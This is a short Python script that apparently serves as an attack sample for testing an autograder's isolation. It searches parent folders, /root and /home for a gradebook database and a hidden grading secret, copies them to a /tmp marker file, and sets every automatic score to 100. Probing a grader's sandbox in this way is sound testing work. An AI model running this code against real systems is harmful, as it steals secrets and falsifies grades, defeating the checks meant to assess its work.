# class: reads
# what: looks for the gradebook and the grading secret above its folder
import pathlib, sqlite3
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/root"), pathlib.Path("/home")]:
    for path in [folder / "gradebook.db", folder / ".gancourse" / "secret"]:
        try:
            content = path.read_bytes()
        except OSError:
            continue
        open("/tmp/gancourse-attack-marker", "wb").write(content)
        if path.suffix == ".db":
            db = sqlite3.connect(path)
            db.execute("update grade set auto_score = 100")
            db.commit()
